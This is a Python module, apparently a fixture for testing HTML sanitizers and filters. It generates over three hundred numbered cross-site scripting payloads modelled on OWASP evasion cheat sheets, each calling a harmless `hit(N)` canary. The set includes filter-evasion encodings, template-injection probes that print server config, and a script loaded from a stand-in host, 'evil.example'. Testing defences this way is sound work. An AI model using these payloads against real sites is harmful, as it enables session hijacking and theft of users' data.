"""Texts that would run, if any page let them: every way into markup, attributes, addresses, styles and scripts.

After the OWASP XSS Filter Evasion Cheat Sheet and the HTML5 Security Cheatsheet. Each calls `hit(N)`.
"""

from itertools import product

_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "-->",
    "]]>",
    "\x00>",
    "&quot;&gt;",
)
"""What ends the place that a text may stand in."""

_VECTORS = (
    "<script>hit(N)</script>",
    "<ScRiPt >hit(N)</sCrIpT >",
    "<script src=data:,hit(N)></script>",
    "<img src=x onerror=hit(N)>",
    "<img/src='x'/onerror=hit(N)//",
    "<svg onload=hit(N)>",
    "<svg><script>hit(N)</script></svg>",
    "<svg><animate onbegin=hit(N) attributeName=x dur=1s>",
    "<math><mtext></p><svg onload=hit(N)></math>",
    "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
    "<iframe src=javascript:parent.hit(N)></iframe>",
    "<object data=javascript:hit(N)></object>",
    "<embed src=javascript:hit(N)>",
    "<body onload=hit(N)>",
    "<details open ontoggle=hit(N)>",
    "<input autofocus onfocus=hit(N)>",
    "<video><source onerror=hit(N)></video>",
    "<audio src=x onerror=hit(N)>",
    "<marquee onstart=hit(N)>",
    "<style>@import 'data:text/css,x';*{x:expression(hit(N))}</style>",
    "<link rel=stylesheet href=data:,x onload=hit(N)>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(N)'>",
    "<base href=javascript:hit(N)//>",
    "<form action=javascript:hit(N)><button autofocus>x",
    "<template><script>hit(N)</script></template>",
)
_ATTRIBUTES = (
    'x" onmouseover=hit(N) autofocus onfocus=hit(N) y="',
    "x' onmouseover=hit(N) autofocus onfocus=hit(N) y='",
    "x onerror=hit(N) src=y",
    "javascript:hit(N)",
    "JaVaScRiPt:hit(N)",
    "java\tscript:hit(N)",
    "\x01javascript:hit(N)",
    "data:text/html,<script>parent.hit(N)</script>",
    "vbscript:hit(N)",
    "//evil.example/x.js",
    "{{constructor.constructor('hit(N)')()}}",
    "{{7*7}}{%print(config)%}",
    "${hit(N)}",
    "';hit(N);//",
    '";hit(N);//',
    "\\';hit(N);//",
    "`;hit(N);//",
    "</x></script><script>hit(N)</script>",
    "\u2028hit(N)//",
    "＜script＞hit(N)＜/script＞",
    "+ADw-script+AD4-hit(N)+ADw-/script+AD4-",
    "%3Cscript%3Ehit(N)%3C/script%3E",
    "&lt;script&gt;hit(N)&lt;/script&gt;",
    "\ufeff<script>hit(N)</script>",
)


def payloads() -> list[str]:
    """All of them, numbered; three hundred and more."""
    texts = [before + vector for vector, before in product(_VECTORS, _BREAKS)] + list(_ATTRIBUTES)
    return [text.replace("N", str(number)) for number, text in enumerate(texts)]
